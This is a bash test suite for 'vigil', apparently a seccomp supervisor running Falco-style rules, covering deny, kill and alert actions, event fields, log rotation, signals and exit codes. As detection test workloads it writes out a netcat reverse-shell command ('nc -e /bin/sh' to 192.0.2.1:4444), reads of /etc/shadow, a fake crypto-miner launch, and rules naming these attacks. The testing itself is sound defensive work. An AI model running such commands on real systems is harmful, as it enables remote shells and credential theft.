#!/usr/bin/env bash
# End-to-end tests of `vigil run`: real programs under the supervisor.
# Covers what the live source supplies so far: decisions on the open
# family, exit statuses, signal forwarding and reaping.
set -u
# Workloads share vigil's stdout: python must write whole lines, not the
# pieces PYTHONUNBUFFERED (set on some machines) makes of each print.
unset PYTHONUNBUFFERED
vigil=$(realpath "${1:-./vigil}")
pass=0 fail=0
tmp=$(mktemp -d "${TMPDIR:-/tmp}/vigil-run.XXXXXX")
trap 'rm -rf "$tmp"' EXIT

ok () { echo "PASS $1"; pass=$((pass + 1)); }
ko () { echo "FAIL $1"; shift; for l in "$@"; do echo "    $l"; done; fail=$((fail + 1)); }

cat > "$tmp/rules.yaml" <<'YAML'
- rule: Shadow opened
  desc: a read of the shadow file
  condition: evt.type in (open, openat, openat2) and fd.name = /etc/shadow
  output: "shadow opened by %proc.name (file=%fd.name raw=%fd.nameraw)"
  priority: WARNING
- rule: Secret denied
  desc: nobody reads the secret
  condition: evt.type in (open, openat, openat2) and fd.name startswith SECRETDIR/
  output: "secret denied to %proc.name (file=%fd.name)"
  priority: CRITICAL
  action: deny
  errno: EACCES
YAML
mkdir -p "$tmp/secret"
echo s3cret > "$tmp/secret/key"
sed -i "s|SECRETDIR|$tmp/secret|" "$tmp/rules.yaml"

if ! "$vigil" run -r "$tmp/rules.yaml" -- true 2>"$tmp/err"; then
  if grep -q "seccomp" "$tmp/err"; then
    echo "SKIP: seccomp user notification unavailable: $(cat "$tmp/err")"
    echo "run: 0 passed, 0 failed, 1 skipped"
    exit 0
  fi
fi

# A deny answers the open with the rule's errno; the workload goes on.
out=$(cd "$tmp" && timeout 20 "$vigil" run -r "$tmp/rules.yaml" -o json_output=true -- \
        sh -c 'cat secret/key; echo "cat=$?" >&2' 2>"$tmp/err")
if grep -q "Permission denied" "$tmp/err" && grep -q "cat=1" "$tmp/err" &&
   printf '%s\n' "$out" | grep -q '"action":"deny"' &&
   printf '%s\n' "$out" | grep -q "\"fd.name\":\"$tmp/secret/key\""; then
  ok "deny: relative open of a denied file fails with EACCES, JSON alert has the absolute fd.name"
else
  ko "deny" "out: $out" "err: $(cat "$tmp/err")"
fi

# A log rule lets the open through and alerts.
out=$(timeout 20 "$vigil" run -r "$tmp/rules.yaml" -- sh -c 'cat /etc/shadow > /dev/null; echo "cat=$?" >&2' 2>"$tmp/err")
if grep -q "cat=0" "$tmp/err" && printf '%s\n' "$out" | grep -q "Warning shadow opened by cat (file=/etc/shadow raw=/etc/shadow)"; then
  ok "log: the open succeeds and the alert names process and file"
else
  ko "log" "out: $out" "err: $(cat "$tmp/err")"
fi

# No rule watches execs, yet a process seen before its exec is described
# as the program it became (vigil watches execs for its process table).
out=$(timeout 20 "$vigil" run -r "$tmp/rules.yaml" -- sh -c ': > /dev/null; exec cat /etc/shadow > /dev/null' 2>&1)
if printf '%s\n' "$out" | grep -q "shadow opened by cat " && ! printf '%s\n' "$out" | grep -q "shadow opened by sh "; then
  ok "proc.name follows an exec that no rule watches"
else
  ko "proc.name after exec" "out: $out"
fi

# Monitor mode decides but never denies.
out=$(cd "$tmp" && timeout 20 "$vigil" run --monitor -r "$tmp/rules.yaml" -o json_output=true -- cat secret/key 2>"$tmp/err")
if printf '%s\n' "$out" | grep -q '^s3cret$' && printf '%s\n' "$out" | grep -q '"action":"would-deny"'; then
  ok "monitor: would-deny, the read succeeds"
else
  ko "monitor" "out: $out" "err: $(cat "$tmp/err")"
fi

# Connections: the destination's fields, and a deny before any packet
# leaves (loopback only).
cat > "$tmp/net.yaml" <<'YAML'
- rule: Connect to the metadata port
  desc: a connection to port 4444
  condition: evt.type=connect and fd.sport = 4444 and fd.sip = "127.0.0.1"
  output: "connect to %fd.sip:%fd.sport (type=%fd.typechar family=%fd.sockfamily)"
  priority: WARNING
- rule: Deny a network
  desc: nothing may reach 127.0.0.2
  condition: evt.type in (connect, sendto, sendmsg) and fd.snet in ("127.0.0.2/32")
  output: "connection to %fd.sip denied"
  priority: WARNING
  action: deny
  errno: ENETUNREACH
YAML
if command -v python3 >/dev/null; then
  out=$(timeout 20 "$vigil" run -o log_level=warning -r "$tmp/net.yaml" -- python3 -c '
import errno, socket
for a in [("127.0.0.1", 4444), ("127.0.0.2", 4444)]:
    s = socket.socket(); s.settimeout(1)
    try: s.connect(a)
    except OSError as e: print(a[0], errno.errorcode[e.errno])
' 2>&1)
  if printf '%s\n' "$out" | grep -q "connect to 127.0.0.1:4444 (type=4 family=ip)" &&
     printf '%s\n' "$out" | grep -q "127.0.0.2 ENETUNREACH" && printf '%s\n' "$out" | grep -q "127.0.0.1 ECONNREFUSED"; then
    ok "connect: fd.sip/fd.sport of the destination; a deny on fd.snet fails it with the rule's errno"
  else
    ko "connect" "out: $out"
  fi
else
  echo "SKIP: python3 not installed (connect test)"
fi

# With a terminal: the workload gets the foreground, and the default
# policy's "Terminal shell in container" fires once for the shell vigil
# started (vigil counts as a container entrypoint), not for each PATH
# entry execvp tries.
if command -v script >/dev/null; then
  out=$(timeout 20 script -qec "$vigil run -o log_level=warning --container-id 0123456789ab -- sh -c 'ps -o stat= -p \$\$'" /dev/null | tr -d '\r')
  n=$(printf '%s\n' "$out" | grep -c "A shell was spawned in a container with an attached terminal")
  if [ "$n" = 1 ] && printf '%s\n' "$out" | grep -q "parent=vigil" && printf '%s\n' "$out" | grep -qE '^[A-Za-z]*\+'; then
    ok "tty: Terminal shell in container fires once; the workload is in the foreground process group"
  else
    ko "tty" "alerts: $n" "out: $out"
  fi
else
  echo "SKIP: script(1) not installed (tty test)"
fi

# Whether an exec's file exists is checked only when a rule could match
# (vigil evaluates assuming it exists, then missing): execvp's misses
# along PATH are still no new program, and a rule that only a missing
# file satisfies still fires.
cat > "$tmp/exec-file.yaml" <<'YAML'
- rule: Ran vtrue
  desc: the program ran
  condition: evt.type = execve and proc.name = vtrue
  output: "ran vtrue (exepath=%proc.exepath)"
  priority: INFO
- rule: Exec of a missing file
  desc: only a missing file has no exepath
  condition: evt.type = execve and not proc.exepath exists
  output: "exec of a missing file"
  priority: INFO
YAML
mkdir -p "$tmp/bin" && cp /bin/true "$tmp/bin/vtrue"
out=$(timeout 20 env PATH="$tmp/none-a:$tmp/none-b:$tmp/bin" "$vigil" run -o log_level=warning -r "$tmp/exec-file.yaml" -- vtrue 2>&1)
ran=$(printf '%s\n' "$out" | grep -c "ran vtrue (exepath=$tmp/bin/vtrue)")
missing=$(printf '%s\n' "$out" | grep -c "exec of a missing file")
if [ "$ran" = 1 ] && [ "$missing" = 2 ] && ! printf '%s\n' "$out" | grep -q "none-./vtrue"; then
  ok "exec of a missing file: execvp's PATH misses are no new program; a rule on the miss fires for each"
else
  ko "exec of a missing file" "ran: $ran (want 1), missing: $missing (want 2)" "out: $out"
fi

# Decisions are remembered only where nothing they rest on can change
# (decision_cache.h): each second open below is the same call as an
# earlier one that matched nothing, and must still be evaluated.
mkdir -p "$tmp/dc/a" "$tmp/dc/b"
: > "$tmp/dc/file"; : > "$tmp/dc/a/f"; : > "$tmp/dc/b/f"; : > "$tmp/dc/node"
cat > "$tmp/dc.yaml" <<YAML
- rule: Cat reads the file
  desc: depends on the process
  condition: evt.type in (open, openat) and fd.name = $tmp/dc/file and proc.name = cat
  output: "dc-proc %proc.name"
  priority: INFO
- rule: File written
  desc: depends on the flags
  condition: evt.type in (open, openat) and fd.name = $tmp/dc/file and evt.is_open_write = true
  output: "dc-flags %evt.arg.flags"
  priority: INFO
- rule: Relative open in b
  desc: depends on the cwd
  condition: evt.type in (open, openat) and fd.name = $tmp/dc/b/f
  output: "dc-cwd %fd.name"
  priority: INFO
- rule: Node is a directory
  desc: depends on the file's type
  condition: evt.type in (open, openat) and fd.name = $tmp/dc/node and fd.typechar = d
  output: "dc-type %fd.typechar"
  priority: INFO
YAML
out=$(cd "$tmp" && timeout 20 "$vigil" run -o log_level=warning -r "$tmp/dc.yaml" -- sh -c '
  head -c0 dc/file; head -c0 "$PWD/dc/file"; cat "$PWD/dc/file"
  cat "$PWD/dc/file"; echo x >> "$PWD/dc/file"
  cd dc/a && cat f; cd ../b && cat f
  cat "'"$tmp"'/dc/node"; rm "'"$tmp"'/dc/node"; mkdir "'"$tmp"'/dc/node"; cat "'"$tmp"'/dc/node" 2>/dev/null
  exit 0' 2>&1)
count () { printf '%s\n' "$out" | grep -c "$1"; }
if [ "$(count 'dc-proc cat')" = 2 ] && [ "$(count dc-proc)" = 2 ] && [ "$(count dc-flags)" = 1 ] \
   && [ "$(count "dc-cwd $tmp/dc/b/f")" = 1 ] && [ "$(count 'dc-type d')" = 1 ]; then
  ok "remembered decisions: another process, other flags, another cwd, another file type are evaluated again"
else
  ko "remembered decisions" "proc: $(count dc-proc) (want 2, both cat), flags: $(count dc-flags) (want 1)" \
     "cwd: $(count dc-cwd) (want 1), type: $(count dc-type) (want 1)" "out: $out"
fi

# A kill rule on exec kills the process before the new program runs.
cat > "$tmp/kill.yaml" <<'YAML'
- rule: Miner
  desc: a crypto miner starts
  condition: evt.type in (execve, execveat) and proc.name = xmrig
  output: "miner killed (cmdline=%proc.cmdline exepath=%proc.exepath)"
  priority: CRITICAL
  action: kill
YAML
cp /bin/true "$tmp/xmrig"
out=$(cd "$tmp" && timeout 20 "$vigil" run -r "$tmp/kill.yaml" -- sh -c './xmrig -o pool:3333; echo "st=$?" >&2' 2>"$tmp/err")
if grep -q "st=137" "$tmp/err" && printf '%s\n' "$out" | grep -q "miner killed (cmdline=xmrig -o pool:3333 exepath=$tmp/xmrig)"; then
  ok "kill: the exec'ing process dies by SIGKILL; alert has the new program's cmdline and normalised path"
else
  ko "kill" "out: $out" "err: $(cat "$tmp/err")"
fi

# Event types and their fields, as JSON alerts show them: accept (the
# listening end known before the syscall, the client end not), clone and
# clone3 (flags from struct clone_args) in Falco's flag order, unshare,
# setns, bpf, userfaultfd, the new mount API, open flags in Falco's order,
# and result fields where vigil
# knows the result: an open whose walk failed (open_file_failed) and an open
# vigil denied.  The deny rule makes vigil perform opens itself.
cat > "$tmp/events.py" <<'PY'
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
sc = libc.syscall
sc.restype = ctypes.c_long
def call(nr, *a):
    return sc(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
# accept on a specific address and on every address
for host in ("127.0.0.1", "0.0.0.0"):
    l = socket.socket(); l.bind((host, 0)); l.listen(1)
    print("port", host, l.getsockname()[1], file=sys.stderr, flush=True)
    c = socket.create_connection(("127.0.0.1", l.getsockname()[1])); a, _ = l.accept()
    a.close(); c.close(); l.close()
CLONE_NEWUTS, CLONE_NEWUSER, CLONE_NEWNS = 0x4000000, 0x10000000, 0x20000
def child_exit(pid):
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
child_exit(call(56, CLONE_NEWUTS | CLONE_NEWUSER | 17, 0, 0, 0, 0))      # clone
args = struct.pack("11Q", CLONE_NEWUSER | CLONE_NEWUTS, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
buf = ctypes.create_string_buffer(args, len(args))
child_exit(call(435, buf, len(args)))                                      # clone3
call(272, CLONE_NEWNS | CLONE_NEWUTS)                                       # unshare
fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
call(308, fd, CLONE_NEWUTS)                                                  # setns
call(321, 5, 0, 0)                                                           # bpf BPF_PROG_LOAD
call(323, os.O_CLOEXEC | os.O_NONBLOCK)                                      # userfaultfd
fs = call(430, b"tmpfs", 1)                                                  # fsopen
call(431, fs, 1, b"size", b"1m", 0)                                          # fsconfig SET_STRING
call(428, -100, b"/tmp", 1 | os.O_CLOEXEC)                                   # open_tree OPEN_TREE_CLONE
call(429, -1, b"from-here", -100, b"/nonexistent-vigil", 0)                 # move_mount
call(432, -1, 0, 0)                                                          # fsmount
call(442, -100, b"/nonexistent-vigil", 0, 0, 0)                              # mount_setattr
for p, mode in (("/nonexistent-vigil/x", "w"), (os.environ["SECRET"], "r")):
    try: open(p, mode).close()
    except OSError as e: print(p, e.errno, file=sys.stderr, flush=True)
PY
cat > "$tmp/events.yaml" <<'YAML'
- rule: T accept
  desc: t
  condition: evt.type in (accept, accept4) and proc.name = python3
  output: "accept sip=%fd.sip sport=%fd.sport lport=%fd.lport cip=%fd.cip cport=%fd.cport type=%fd.typechar proto=%fd.l4proto num=%fd.num"
  priority: WARNING
- rule: T clone
  desc: t
  condition: evt.type = clone and evt.arg.flags contains CLONE_NEWUSER
  output: "clone flags=%evt.arg.flags"
  priority: WARNING
- rule: T clone3
  desc: t
  condition: evt.type = clone3 and evt.arg.flags contains CLONE_NEWUSER
  output: "clone3 flags=%evt.arg.flags"
  priority: WARNING
- rule: T unshare
  desc: t
  condition: evt.type = unshare
  output: "unshare flags=%evt.arg.flags"
  priority: WARNING
- rule: T setns
  desc: t
  condition: evt.type = setns
  output: "setns nstype=%evt.arg.nstype"
  priority: WARNING
- rule: T bpf
  desc: t
  condition: evt.type = bpf and (evt.arg.cmd = 5 or evt.arg.cmd = BPF_PROG_LOAD)
  output: "bpf cmd=%evt.arg.cmd"
  priority: WARNING
- rule: T userfaultfd
  desc: t
  condition: evt.type = userfaultfd
  output: "userfaultfd flags=%evt.arg.flags"
  priority: WARNING
- rule: T mount API
  desc: t
  condition: evt.type in (open_tree, move_mount, fsopen, fsmount, fsconfig, mount_setattr)
  output: "mount api %evt.type filename=%evt.arg.filename from=%evt.arg.from_pathname to=%evt.arg.to_pathname fs=%evt.arg.fs_name cmd=%evt.arg.cmd key=%evt.arg.key value=%evt.arg.value_charbuf path=%evt.arg.path flags=%evt.arg.flags"
  priority: WARNING
- rule: T open failed
  desc: Falco's open_file_failed
  condition: evt.type in (open, openat, openat2) and fd.typechar = 'f' and fd.num = -1 and evt.res startswith E and fd.name startswith /nonexistent-vigil/
  output: "open failed res=%evt.res raw=%evt.rawres num=%fd.num failed=%evt.failed flags=%evt.arg.flags"
  priority: WARNING
- rule: T secret denied
  desc: t
  condition: evt.type in (open, openat, openat2) and fd.name = SECRETFILE
  output: "secret denied res=%evt.res raw=%evt.rawres num=%fd.num"
  priority: WARNING
  action: deny
  errno: EACCES
YAML
echo s3cret > "$tmp/secret/events"
sed -i "s|SECRETFILE|$tmp/secret/events|" "$tmp/events.yaml"
if command -v python3 >/dev/null; then
  SECRET=$tmp/secret/events timeout 60 "$vigil" run -o log_level=warning -o json_output=true -r "$tmp/events.yaml" -- \
    python3 "$tmp/events.py" >"$tmp/events.out" 2>"$tmp/events.err"
  python3 - "$tmp/events.out" "$tmp/events.err" <<'PY' >"$tmp/events.check" 2>&1
import json, sys
alerts, ports = [], {}
for line in open(sys.argv[2]):
    if line.startswith("port "):
        _, host, port = line.split(); ports[host] = int(port)
for line in open(sys.argv[1]):
    if line.startswith("{"):
        alerts.append(json.loads(line))
def fields(rule, **match):
    for a in alerts:
        f = a["output_fields"]
        if a["rule"] == rule and all(f.get(k) == v for k, v in match.items()):
            return f
    return None
want = [
    ("T accept", {"fd.sport": ports.get("127.0.0.1")},
     {"fd.sip": "127.0.0.1", "fd.lport": ports.get("127.0.0.1"), "fd.cip": None, "fd.cport": None,
      "fd.typechar": "4", "fd.l4proto": "tcp", "fd.num": None}),
    ("T accept", {"fd.sport": ports.get("0.0.0.0")}, {"fd.sip": None, "fd.cip": None}),
    ("T clone", {}, {"evt.arg.flags": "CLONE_NEWUTS|CLONE_NEWUSER"}),
    ("T clone3", {}, {"evt.arg.flags": "CLONE_NEWUTS|CLONE_NEWUSER"}),
    ("T unshare", {}, {"evt.arg.flags": "CLONE_NEWNS|CLONE_NEWUTS"}),
    ("T setns", {}, {"evt.arg.nstype": "CLONE_NEWUTS"}),
    ("T bpf", {}, {"evt.arg.cmd": "BPF_PROG_LOAD"}),
    ("T userfaultfd", {}, {"evt.arg.flags": "O_CLOEXEC|O_NONBLOCK"}),
    ("T mount API", {"evt.type": "fsopen"}, {"evt.arg.fs_name": "tmpfs", "evt.arg.flags": "1"}),
    ("T mount API", {"evt.type": "fsconfig"},
     {"evt.arg.cmd": "FSCONFIG_SET_STRING", "evt.arg.key": "size", "evt.arg.value_charbuf": "1m"}),
    ("T mount API", {"evt.type": "open_tree"}, {"evt.arg.filename": "/tmp", "evt.arg.flags": "524289"}),
    ("T mount API", {"evt.type": "move_mount"},
     {"evt.arg.from_pathname": "from-here", "evt.arg.to_pathname": "/nonexistent-vigil"}),
    ("T mount API", {"evt.type": "fsmount"}, {"evt.arg.flags": "0"}),
    ("T mount API", {"evt.type": "mount_setattr"}, {"evt.arg.path": "/nonexistent-vigil"}),
    ("T open failed", {}, {"evt.res": "ENOENT", "evt.rawres": -2, "fd.num": -1, "evt.failed": True,
                            "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC"}),
    ("T secret denied", {}, {"evt.res": "EACCES", "evt.rawres": -13, "fd.num": -1}),
]
bad = 0
for rule, match, expect in want:
    f = fields(rule, **match)
    got = None if f is None else {k: f.get(k, "missing") for k in expect}
    if got != expect:
        bad += 1
        print("%s %s: want %s, got %s" % (rule, match, expect, got))
sys.exit(1 if bad else 0)
PY
  if [ $? = 0 ]; then
    ok "events: accept, clone/clone3, unshare, setns, bpf, userfaultfd, mount API and known results in JSON alerts"
  else
    ko "events and fields" "$(cat "$tmp/events.check")" "out: $(cat "$tmp/events.out")" "err: $(cat "$tmp/events.err")"
  fi
else
  echo "SKIP: python3 not installed (events test)"
fi

# Upstream stable rules fire live, unchanged (the rules file is Falco's own).
upstream=$(dirname "$vigil")/../shared/falco/falco_rules.yaml
if [ -r "$upstream" ]; then
  cp /bin/true "$tmp/nc"
  out=$(cd "$tmp" && timeout 60 "$vigil" run --container-id 0123456789ab -o log_level=warning -o rule_matching=all -r "$upstream" -- sh -c \
        'ln -sf /etc/shadow lnk; cat /etc/shadow >/dev/null; ./nc -e /bin/sh 192.0.2.1 4444; true' 2>&1)
  out="$out
$(timeout 30 "$vigil" run --container-id 0123456789ab -o log_level=warning -r "$upstream" -- python3 -c '
import os, socket
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
c = socket.create_connection(l.getsockname()); a, _ = l.accept()
os.dup2(c.fileno(), 1)
' 2>&1)"
  for rule in "Symlinks created over sensitive files" "Sensitive file opened for reading by non-trusted program" \
              "Netcat runs inside container that allows remote code execution" \
              "Redirect stdout/stdin to network connection"; do
    if printf '%s\n' "$out" | grep -q "$rule"; then ok "upstream rule live: $rule"; else ko "upstream rule live: $rule" "out: $out"; fi
  done
else
  echo "SKIP: upstream Falco rules not found"
fi

# No fd of vigil's leaks into the workload: it holds exactly the fds it
# would hold without vigil (those the caller passed), with every output
# channel open (file, program, http: libcurl opens fds of its own).
probe='ls /proc/$$/fd | sort -n | tr "\n" " "'
# Run a command with only fds 0-2 and the fd 3 the caller "passes".
only_fds_0_to_3 () {
  bash -c 'for f in /proc/$$/fd/*; do n=${f##*/}; [ "$n" -gt 3 ] && eval "exec $n>&-"; done; exec "$@"' _ "$@" 3</dev/null
}
under=$(only_fds_0_to_3 timeout 20 "$vigil" run -o log_level=warning -r "$tmp/rules.yaml" \
          -o file_output.enabled=true -o "file_output.filename=$tmp/alerts.log" -o file_output.keep_alive=true \
          -o program_output.enabled=true -o "program_output.program=cat >/dev/null" -o program_output.keep_alive=true \
          -o http_output.enabled=true -o http_output.url=http://127.0.0.1:9/ \
          -- sh -c "$probe" 2>/dev/null)
if [ "$under" = "0 1 2 3 " ]; then
  ok "the workload holds only the fds it was given ($under)"
else
  ko "fd leak" "want: 0 1 2 3" "got:  $under"
fi

# Output rotation: logrotate renames the alert file away; the next alert
# goes to a new file by the old name (vigil notices the inode change), and
# the reopen signal (SIGRTMAX, or `reopen_signal`) releases the rotated file
# at once and is not forwarded to the workload.  The workload raises one
# alert per "go" file the test creates, so each step is ordered.
rot=$tmp/rot
# wait_for CMD...: poll until CMD succeeds (at most 10 s; a hang, not a timing).
wait_for () { for _ in $(seq 100); do "$@" && return 0; sleep 0.1; done; return 1; }
lines () { [ -f "$1" ] && [ "$(grep -c 'shadow opened' "$1")" = "$2" ]; }
holds () { ls -l "/proc/$1/fd" 2>/dev/null | grep -q -- "$2"; }
for sig in RTMAX USR2; do
  rm -rf "$rot"; mkdir -p "$rot"
  conf=(); [ "$sig" = USR2 ] && conf=(-o reopen_signal=SIGUSR2)
  "$vigil" run -r "$tmp/rules.yaml" "${conf[@]}" -o stdout_output.enabled=false -o file_output.enabled=true \
    -o "file_output.filename=$rot/alerts.log" -o file_output.keep_alive=true -- sh -c "
      trap 'echo forwarded >$rot/forwarded' $sig
      n=0; while [ \$n -lt 3 ]; do
        if [ -e $rot/go\$n ]; then cat /etc/shadow >/dev/null; n=\$((n + 1)); fi; sleep 0.05
      done" 2>"$tmp/rot.err" &
  vpid=$!
  touch "$rot/go0"
  wait_for lines "$rot/alerts.log" 1
  mv "$rot/alerts.log" "$rot/alerts.log.1"
  touch "$rot/go1"
  if wait_for lines "$rot/alerts.log" 1 && lines "$rot/alerts.log.1" 1; then
    ok "rotation ($sig run): after a rename the next alert goes to a new file by the old name"
  else
    ko "rotation by inode change ($sig run)" "files: $(ls -l "$rot")" "err: $(cat "$tmp/rot.err")"
  fi
  mv "$rot/alerts.log" "$rot/alerts.log.2"
  holds "$vpid" alerts.log.2; held=$?
  kill -s "$sig" "$vpid"
  if [ "$held" = 0 ] && wait_for eval "! holds $vpid alerts.log.2"; then
    ok "rotation: SIG$sig makes vigil let go of the rotated file before any new alert"
  else
    ko "reopen signal SIG$sig" "held before: $held" "fds: $(ls -l "/proc/$vpid/fd" 2>&1)"
  fi
  touch "$rot/go2"
  wait "$vpid"; st=$?
  if [ "$st" = 0 ] && ! [ -e "$rot/forwarded" ] && lines "$rot/alerts.log" 1 && lines "$rot/alerts.log.2" 1; then
    ok "rotation: the alert after SIG$sig is in the reopened file; the signal was not forwarded"
  else
    ko "after the reopen signal SIG$sig" "status $st" "files: $(ls -l "$rot")" "err: $(cat "$tmp/rot.err")"
  fi
done

# The Kubernetes example's downward-API variables are the ones vigil reads:
# each value the example sets reaches an alert field.
example=$(dirname "$vigil")/examples/k8s-deployment.yaml
if [ -r "$example" ]; then
  cat > "$tmp/k8s.yaml" <<'YAML'
- rule: Identity
  desc: every container and pod field
  condition: evt.type in (open, openat, openat2) and fd.name = /etc/hostname
  output: "id=%container.id name=%container.name image=%container.image pod=%k8s.pod.name ns=%k8s.ns.name uid=%k8s.pod.uid ip=%k8s.pod.ip"
  priority: WARNING
YAML
  vars=$(sed -n '/^ *env:/,/^ *[a-zA-Z]*:$/p' "$example" | grep -oE -- '- name: [A-Z_]+' | cut -d' ' -f3)
  envs=(); for v in $vars; do envs+=("$v=v-$v"); done
  out=$(env "${envs[@]}" timeout 20 "$vigil" run -r "$tmp/k8s.yaml" -- cat /etc/hostname 2>/dev/null)
  missing=; for v in $vars; do printf '%s\n' "$out" | grep -q "=v-$v\b" || missing="$missing $v"; done
  undocumented=; for v in $vars; do grep -q "\`$v\`" "$(dirname "$vigil")/README.md" || undocumented="$undocumented $v"; done
  if [ -n "$vars" ] && [ -z "$missing" ] && [ -z "$undocumented" ] &&
     printf '%s\n' "$out" | grep -q "pod=v-POD_NAME ns=v-POD_NAMESPACE uid=v-POD_UID ip=v-POD_IP"; then
    ok "k8s example: vigil reads every downward-API variable it sets ($(echo $vars))"
  else
    ko "k8s example env" "variables: $(echo $vars)" "not in an alert:$missing" "not in the README:$undocumented" "out: $out"
  fi
else
  echo "SKIP: examples/k8s-deployment.yaml not found next to vigil"
fi

# Exit statuses, as an entrypoint must pass them on.
check_status () {
  local want=$1 label=$2; shift 2
  timeout 20 "$vigil" run -r "$tmp/rules.yaml" -- "$@" >/dev/null 2>&1
  local got=$?
  if [ "$got" = "$want" ]; then ok "exit status $want: $label"; else ko "exit status: $label" "want $want, got $got"; fi
}
check_status 3 "the workload's code" sh -c 'exit 3'
check_status 127 "command not found" /no/such/command
printf '#!/bin/sh\n' > "$tmp/noexec"; chmod 644 "$tmp/noexec"
check_status 126 "not executable" "$tmp/noexec"
check_status 143 "killed by SIGTERM" sh -c 'kill -TERM $$'
check_status 137 "killed by SIGKILL" sh -c 'kill -KILL $$'

# Signals sent to vigil reach the workload: SIGUSR1 and a real-time signal.
for sig in USR1 RTMIN+3; do
  "$vigil" run -r "$tmp/rules.yaml" -- sh -c "trap 'echo got >$tmp/sig; exit 0' $sig; echo ready >$tmp/ready; while :; do sleep 0.1; done" &
  vpid=$!
  for _ in $(seq 50); do [ -s "$tmp/ready" ] && break; sleep 0.1; done
  kill -s "$sig" "$vpid" 2>/dev/null || kill "-$sig" "$vpid"
  wait "$vpid"; st=$?
  if [ "$st" = 0 ] && [ -s "$tmp/sig" ]; then ok "signal $sig forwarded"; else ko "signal $sig forwarded" "status $st"; fi
  rm -f "$tmp/sig" "$tmp/ready"
done

# Orphans are reaped: vigil is a subreaper, so no zombie outlives the run.
timeout 20 "$vigil" run -r "$tmp/rules.yaml" -- sh -c '(sleep 0.2 &) ; sleep 0.5' &
vpid=$!
sleep 0.4
zombies=$(ps -o stat=,ppid= -e | awk -v p="$vpid" '$2 == p && $1 ~ /^Z/' | wc -l)
wait "$vpid"
if [ "$zombies" = 0 ]; then ok "orphans reaped"; else ko "orphans reaped" "$zombies zombies under vigil"; fi

# The workload exits while a child it left behind keeps making notified
# syscalls: vigil still ends with the workload's status, whether a thread
# receives notifications (it is left waiting, never joined) or the main
# loop polls them (an exec kill rule keeps verification on).
cat > "$tmp/kill-exec.yaml" <<'YAML'
- rule: Kill a program nobody runs
  desc: keeps exec verification, and so the polling loop, on
  condition: evt.type in (execve, execveat) and proc.exepath = /nonexistent/miner
  output: "killed %proc.exepath"
  priority: CRITICAL
  action: kill
YAML
for rules in "$tmp/rules.yaml" "$tmp/kill-exec.yaml"; do
  timeout -k 5 20 "$vigil" run -r "$rules" -- sh -c \
    '(i=0; while [ $i -lt 300 ]; do cat /etc/hostname; i=$((i+1)); done) >/dev/null 2>&1 & sleep 0.3; exit 7' \
    >/dev/null 2>"$tmp/err"
  st=$?
  if [ "$st" = 7 ]; then
    ok "workload exits with an orphan still notifying ($(basename "$rules")): vigil ends with its status"
  else
    ko "workload exits with an orphan still notifying ($(basename "$rules"))" "status $st (124 or 137: vigil hung)" \
       "err: $(head -5 "$tmp/err")"
  fi
done

# As an ordinary user (unprivileged seccomp notification needs only no_new_privs).
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
  # A copy nobody can reach: the checkout may be under /root (mode 0700).
  chmod 755 "$tmp"; cp "$vigil" "$tmp/vigil"
  out=$(setpriv --reuid=65534 --regid=65534 --clear-groups -- \
          timeout 20 "$tmp/vigil" run -r "$tmp/rules.yaml" -- sh -c 'cat /etc/shadow; echo "cat=$?" >&2' 2>"$tmp/err")
  if grep -q "cat=1" "$tmp/err" && printf '%s\n' "$out" | grep -q "shadow opened by cat"; then
    ok "unprivileged: nobody's open of /etc/shadow is seen (and fails on permissions)"
  else
    ko "unprivileged" "out: $out" "err: $(cat "$tmp/err")"
  fi
else
  echo "SKIP: unprivileged run needs root to switch to nobody (and setpriv)"
fi

echo "run: $pass passed, $fail failed, 0 skipped"
[ "$fail" = 0 ]
